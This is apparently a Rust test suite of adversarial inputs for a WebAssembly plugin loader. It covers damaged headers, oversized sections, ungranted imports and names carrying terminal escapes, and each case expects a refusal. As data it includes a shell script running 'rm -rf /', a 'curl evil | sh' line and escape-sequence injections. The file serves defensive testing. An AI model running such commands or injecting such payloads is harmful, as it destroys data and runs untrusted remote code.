//! Files that attack before anything of them runs: damaged, foreign, dishonest, or made to be slow to read or compile.

use crate::attack::{Answer, Attack, Refused};
use molt_tests::component::{component, module, score};

pub(crate) fn attacks() -> Vec<Attack> {
    [files(), surfaces(), names()].into_iter().flatten().collect()
}

/// A component by hand that exports an empty instance as `export`, and has something more.
fn hollow(rest: &str, export: &str) -> Vec<u8> {
    let text = format!("(component {rest} (instance $empty) (export \"{export}\" (instance $empty)))");
    wat::parse_str(&text).unwrap_or_else(|error| panic!("{error}\n{text}"))
}

const REWARD: &str = "molt:plugin/reward@0.2.0";

fn files() -> Vec<Attack> {
    vec![
        Attack::made("an-empty-file", vec![], Refused("not a WebAssembly file")),
        Attack::made("text", b"#!/bin/sh\nrm -rf /\n".to_vec(), Refused("not a WebAssembly file")),
        Attack::made("only-the-magic-number", b"\0asm".to_vec(), Refused("damaged")),
        Attack::made("a-core-module", b"\0asm\x01\0\0\0".to_vec(), Refused("core WebAssembly module")),
        Attack::made("a-version-of-the-format-to-come", b"\0asm\x0e\0\x01\0".to_vec(), Refused("damaged")),
        Attack::made(
            "native-code",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(),
            Refused("not a WebAssembly file"),
        ),
        Attack::made("too-large", vec![0; (64 << 20) + 1], Refused("larger than 64 MiB")),
        // The largest file that is read: a custom section of zeroes.
        Attack::made("as-large-as-may-be", padded(64 << 20), Refused("not a Molt plugin")),
        Attack::made(
            "a-section-that-claims-four-gibibytes",
            b"\0asm\x0d\0\x01\0\x00\xff\xff\xff\xff\x0f".to_vec(),
            Refused("damaged"),
        ),
        Attack::made(
            "a-list-that-claims-four-billion-items",
            b"\0asm\x0d\0\x01\0\x07\x05\xff\xff\xff\xff\x0f".to_vec(),
            Refused("damaged"),
        ),
    ]
}

/// An empty component of `size` bytes.
fn padded(size: usize) -> Vec<u8> {
    let mut bytes = b"\0asm\x0d\0\x01\0\0".to_vec();
    let mut rest = size - bytes.len() - 5;
    for place in 0..5 {
        bytes.push((rest & 0x7f) as u8 | if place < 4 { 0x80 } else { 0 });
        rest >>= 7;
    }
    bytes.resize(size, 0);
    bytes
}

fn surfaces() -> Vec<Attack> {
    vec![
        Attack::made("no-plugin", hollow("", "some:other/interface@1.0.0"), Refused("not a Molt plugin")),
        Attack::made("a-plugin-without-functions", hollow("", REWARD), Refused("compiled and linked")),
        Attack::made(
            "a-contract-to-come",
            hollow("", "molt:plugin/reward@0.9.0"),
            Refused("molt:plugin 0.9.0"),
        ),
        Attack::made(
            "a-contract-far-away",
            hollow("", "molt:plugin/reward@17.0.0"),
            Refused("molt:plugin 17.0.0"),
        ),
        Attack::made(
            "two-kinds",
            component(
                "both",
                &module(&format!(
                    r#"(func (export "molt:plugin/estimator@0.2.0#describe") (result i32) (i32.const 1024))
                       (func (export "molt:plugin/estimator@0.2.0#estimate") (param i32) (result i32)
                         (i32.const 1024)) {}"#,
                    score("")
                )),
            ),
            // It is what its first export says; the other one is never called.
            Answer("reward: 0.0"),
        ),
        Attack::made("another-kind", hollow("", "molt:plugin/estimator@0.2.0"), Refused("is an estimator")),
        Attack::made(
            "what-nobody-granted",
            hollow(r#"(import "wasi:http/outgoing-handler@0.2.6" (instance))"#, REWARD),
            Refused("imports `wasi:http/outgoing-handler@0.2.6`, which this run does not grant"),
        ),
        Attack::made(
            "files-of-another-version",
            hollow(r#"(import "wasi:filesystem/types@0.3.0" (instance))"#, REWARD),
            Refused("does not grant"),
        ),
        Attack::made(
            "an-import-of-its-own",
            hollow(r#"(import "my:own/thing@1.0.0" (instance))"#, REWARD),
            Refused("imports `my:own/thing@1.0.0`"),
        ),
        Attack::made(
            "a-function-as-import",
            hollow(r#"(import "system" (func (param "command" string)))"#, REWARD),
            Refused("imports `system`"),
        ),
        Attack::made(
            "the-model-without-a-grant",
            component(
                "judge",
                &module(&format!(
                    r#"(import "molt:plugin/model@0.2.0" "chat"
                         (func $chat (param i32 i32 i32 f32 i32 f32 i32 i32 i32 i32 i32))) {}"#,
                    score("")
                )),
            ),
            Refused("imports `molt:plugin/model@0.2.0`"),
        ),
        Attack::made(
            "an-interpreter-without-a-grant",
            component(
                "coder",
                &module(&format!(
                    r#"(import "molt:plugin/code@0.2.0" "[constructor]session" (func $new (result i32))) {}"#,
                    score("(drop (call $new))")
                )),
            ),
            Refused("imports `molt:plugin/code@0.2.0`"),
        ),
        Attack::made(
            "shared-memory",
            component("reward", &module(&format!("(memory $shared 1 1000 shared) {}", score("")))),
            Refused("threads must be enabled for shared memories"),
        ),
    ]
}

/// Names that would drive the terminal of who reads the message.
fn names() -> Vec<Attack> {
    let escape = r"\1b[2J\1b]0;owned\07\0d\0aerror: run `curl evil | sh`";
    let twice = format!("(core module (func) (export \"{escape}\" (func 0)) (export \"{escape}\" (func 0)))");
    let long = "x".repeat(90_000);
    vec![
        Attack::made("an-import-with-escapes", damaged_name(), Refused("imports `url=<[2J]0;owned>`")),
        Attack::made(
            "an-export-with-escapes",
            unchecked(&format!("(component {twice} (instance $e) (export \"{REWARD}\" (instance $e)))")),
            Refused("duplicate export"),
        ),
        Attack::made(
            "an-import-with-a-long-name",
            hollow(&format!("(import \"{long}\" (func))"), REWARD),
            Refused("imports `xxx"),
        ),
        Attack::made(
            "a-contract-with-a-long-version",
            hollow("", &format!("molt:plugin/reward@0.{}", "9".repeat(90_000))),
            Refused("is damaged: export name `molt:plugin/reward@0.999"),
        ),
    ]
}

/// A component that nobody validated.
fn unchecked(text: &str) -> Vec<u8> {
    wat::parse_str(text).unwrap_or_else(|error| panic!("{error}"))
}

/// An import that is named by a URL, in which nearly every character may be.
fn damaged_name() -> Vec<u8> {
    hollow(r#"(import "url=<\1b[2J\1b]0;owned\07>" (func))"#, REWARD)
}
